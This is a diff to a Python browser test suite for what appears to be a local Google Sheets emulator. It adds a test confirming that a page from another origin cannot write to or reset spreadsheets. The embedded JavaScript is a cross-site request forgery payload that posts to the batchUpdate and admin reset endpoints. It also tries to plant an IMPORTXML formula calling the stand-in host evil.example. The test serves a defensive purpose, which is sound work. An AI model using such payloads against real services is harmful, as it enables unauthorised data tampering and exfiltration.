@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import contextlib
+import http.server
 import shutil
+import threading
 from collections.abc import Iterator
 
 import gspread
@@ -120,3 +122,63 @@ def test_index_lists_new_spreadsheets_and_links_to_their_grids(
     link.click()
     WebDriverWait(browser, REFRESH_WAIT_SECONDS).until(lambda driver: spreadsheet_id in driver.current_url)
     assert grid(browser, "Sheet1") == [["1", "x"], ["2", "y"]]
+
+
+_ATTACK = """<!doctype html><title>attack</title><script>
+(async () => {
+  const results = [];
+  const attempt = async (label, url, body) => {
+    try {
+      await fetch(url, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body});
+      results.push(label + ":sent");
+    } catch (error) {
+      results.push(label + ":" + error.message);
+    }
+  };
+  const write = JSON.stringify({valueInputOption: "USER_ENTERED",
+    data: [{range: "Sheet1!A1", values: [["=IMPORTXML(\\"http://evil.example\\", \\"//a\\")"]]}]});
+  await attempt("write", "TARGET/v4/spreadsheets/SPREADSHEET/values:batchUpdate", write);
+  await attempt("reset", "TARGET/_admin/reset", "");
+  document.title = results.join(" ");
+})();
+</script>"""
+
+
+@contextlib.contextmanager
+def attacker_site(page: str) -> Iterator[int]:
+    """A web server on another port of this machine serving one page; yields its port."""
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = page.encode()
+            self.send_response(200)
+            self.send_header("content-type", "text/html; charset=utf-8")
+            self.send_header("content-length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield server.server_address[1]
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("attacker_host", ["localhost", "127.0.0.1"])  # another site; the same site
+def test_a_page_of_another_origin_can_neither_write_nor_reset(
+    browser: webdriver.Chrome, sheets: LocalSheets, attacker_host: str
+) -> None:
+    spreadsheet_id = sheets.new_spreadsheet([{"title": "Sheet1", "values": [["kept"]]}])
+    page = _ATTACK.replace("TARGET", sheets.url).replace("SPREADSHEET", spreadsheet_id)
+    with attacker_site(page) as port:
+        browser.get(f"http://{attacker_host}:{port}/")
+        WebDriverWait(browser, REFRESH_WAIT_SECONDS).until(lambda driver: driver.title != "attack")
+    assert browser.title == "write:sent reset:sent"  # both requests reached the server...
+    assert sheets.sheet_values(spreadsheet_id, "Sheet1") == [["kept"]]  # ...which refused them
+    assert sheets.formula_cells(spreadsheet_id) == 0
